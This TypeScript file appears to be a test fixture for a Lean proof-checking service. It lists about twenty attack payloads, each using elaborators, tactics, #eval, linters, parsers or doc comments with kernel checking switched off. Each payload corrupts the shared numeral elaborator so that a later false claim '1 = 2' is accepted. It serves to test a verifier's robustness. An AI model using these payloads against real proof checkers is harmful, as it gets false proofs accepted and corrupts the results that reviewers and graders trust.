import type { ClaimAttack } from '../attack.ts';

/**
 * One claim spoils the process for the next: its code overwrites the elaborator of numerals, in place, in the environment that
 * every session shares. A later claim `1 = 2` in that process would read `1 = 1`.
 */
const spoil = (indent: string, env = '(← Lean.getEnv)'): string =>
  [
    `match (Lean.Elab.Term.termElabAttribute.ext.getState ${env}).table.find? \`num with`,
    '| some entries => (unsafeCast entries : IO.Ref (Lean.KeyedDeclsAttribute.AttributeEntry Lean.Elab.Term.TermElab)).set { key := `num, declName := `evil, value := fun _ _ => return Lean.mkNatLit 1, isBuiltin := true }',
    '| none => pure ()',
  ]
    .map((line) => `${indent}${line}`)
    .join('\n');

const unchecked = 'set_option debug.skipKernelTC true';
const truth = 'return Lean.mkConst ``True';
type Before = NonNullable<ClaimAttack['before']>[number];

const row = (disguise: string, ...before: Before[]): ClaimAttack => ({
  sort: 'neighbour',
  disguise,
  image: 'std',
  before,
  statement: 'theorem t : 1 = 2',
  proof: 'rfl',
  kind: ['elaboration', 'kernel'],
  judged: null,
});

const evil = `${unchecked}\nopen Lean in\ndef evil : Elab.Term.TermElab := fun _ _ => do\n${spoil('  ')}\n  ${truth}`;

export const neighbourAttacks: readonly ClaimAttack[] = [
  row('`by_elab` in a statement', {
    statement: `theorem a : (${unchecked} in by_elab do\n${spoil('  ')}\n  ${truth})`,
    proof: 'trivial',
  }),
  row('`by_elab` in a binder of a statement', {
    statement: `theorem a (h : (${unchecked} in by_elab do\n${spoil('  ')}\n  ${truth})) : True`,
    proof: 'h',
  }),
  row('`run_tac` in a statement', {
    statement: `theorem a : (by\n  ${unchecked} in\n  run_tac do\n${spoil('    ')}\n  exact True)`,
    proof: 'trivial',
  }),
  row('`by_elab` in a proof', {
    statement: 'theorem a : True',
    proof: `${unchecked} in by_elab do\n${spoil('  ')}\n  return Lean.mkConst \`\`True.intro`,
  }),
  row('`run_tac` in a proof', {
    statement: 'theorem a : True',
    proof: `by\n  run_tac do\n${spoil('    ')}\n  trivial`,
  }),
  row('`elab_rules` of a preamble', {
    preamble: `${unchecked}\nsyntax (name := spoil) "spoil" : term\nopen Lean Elab Term in\nelab_rules : term\n  | \`(spoil) => do\n${spoil('    ')}\n    ${truth}`,
    statement: 'theorem a : spoil',
    proof: 'trivial',
  }),
  row('the attribute `term_elab` on a definition of a preamble', {
    preamble: `syntax (name := spoil) "spoil" : term\n${evil}\nattribute [term_elab spoil] evil`,
    statement: 'theorem a : spoil',
    proof: 'trivial',
  }),
  row('the attribute `term_elab` on a syntax that exists', {
    preamble: `${evil}\nattribute [term_elab Lean.Parser.Term.«sorry»] evil`,
    statement: 'theorem a : sorry',
    proof: 'trivial',
  }),
  row('a simplification procedure of a preamble', {
    preamble: `${unchecked}\nopen Lean Meta in\ndsimproc evil (Nat.succ _) := fun _ => do\n${spoil('  ')}\n  return .continue`,
    statement: 'theorem a : (by have : Nat.succ 0 = 0 ∨ True := (by simp [evil]); exact True)',
    proof: 'trivial',
  }),
  row('`#eval` of a preamble', {
    preamble: `${unchecked}\n#eval (do\n${spoil('  ')} : Lean.Meta.MetaM Unit)`,
    statement: 'theorem a : True',
    proof: 'trivial',
  }),
  row('`run_cmd` of a preamble', {
    preamble: `${unchecked}\nrun_cmd do\n${spoil('  ')}`,
    statement: 'theorem a : True',
    proof: 'trivial',
  }),
  row('`run_meta` of a preamble', {
    preamble: `${unchecked}\nrun_meta do\n${spoil('  ')}`,
    statement: 'theorem a : True',
    proof: 'trivial',
  }),
  row('a command elaborator of a preamble', {
    preamble: `${unchecked}\nelab "spoil" : command => do\n${spoil('  ')}\nspoil`,
    statement: 'theorem a : True',
    proof: 'trivial',
  }),
  row('a linter that stays behind', {
    preamble: `${unchecked}\nrun_cmd Lean.Elab.Command.addLinter { run := fun _ => do\n${spoil('  ')} }`,
    statement: 'theorem a : True',
    proof: 'trivial',
  }),
  row('a tactic elaborator of a preamble, called in the statement', {
    preamble: `${unchecked}\nelab "spoil" : tactic => do\n${spoil('  ')}`,
    statement: 'theorem a : (by spoil; exact True)',
    proof: 'trivial',
  }),
  row('a parser of a preamble, which runs when its syntax is read', {
    preamble: `${unchecked}\nopen Lean Parser in\ndef evil : Parser := { fn := fun c s => match unsafeIO (do\n${spoil('    ', 'c.env')}) with | _ => s }\nsyntax (name := spoil) "spoil" evil : term\nmacro_rules (kind := spoil) | _ => \`(True)`,
    statement: 'theorem a : spoil',
    proof: 'trivial',
  }),
  row('a tactic that a constant of a preamble stands for', {
    preamble: `${unchecked}\ndef act : Lean.Elab.Tactic.TacticM Unit := do\n${spoil('  ')}\n  Lean.Elab.Tactic.evalTactic (.node .none \`\`Lean.Parser.Tactic.tacticTrivial #[.atom .none "trivial"])\nopen Lean in\ndef evil : Syntax := .node .none \`\`Parser.Tactic.tacticSeq #[.node .none \`\`Parser.Tactic.tacticSeq1Indented #[.node .none nullKind #[.node .none \`\`Parser.Tactic.runTac #[.atom .none "run_tac", .node .none \`\`Parser.Term.doSeqIndent #[.node .none nullKind #[.node .none \`\`Parser.Term.doSeqItem #[.node .none \`\`Parser.Term.doExpr #[mkIdent \`act], mkNullNode]]]]]]]\ndef run (h : autoParam True evil) : Prop := True`,
    statement: 'theorem a : run',
    proof: 'trivial',
  }),
  row('code in a documentation comment', {
    preamble: `${unchecked}\nset_option doc.verso true\ndef act : Lean.Elab.TermElabM Lean.Expr := do\n${spoil('  ')}\n  ${truth}\n/-- {lean}\`by_elab act\` -/\ndef documented : Nat := 0`,
    statement: 'theorem a : documented = 0',
    proof: 'rfl',
  }),
  row(
    'two claims: the first prepares what the second runs',
    {
      preamble: evil,
      statement: 'theorem a : True',
      proof: 'trivial',
    },
    {
      preamble: `syntax (name := spoil) "spoil" : term\n${evil}\nattribute [local term_elab spoil] evil`,
      statement: 'theorem b : spoil ∧ True',
      proof: '⟨trivial, trivial⟩',
    },
  ),
];
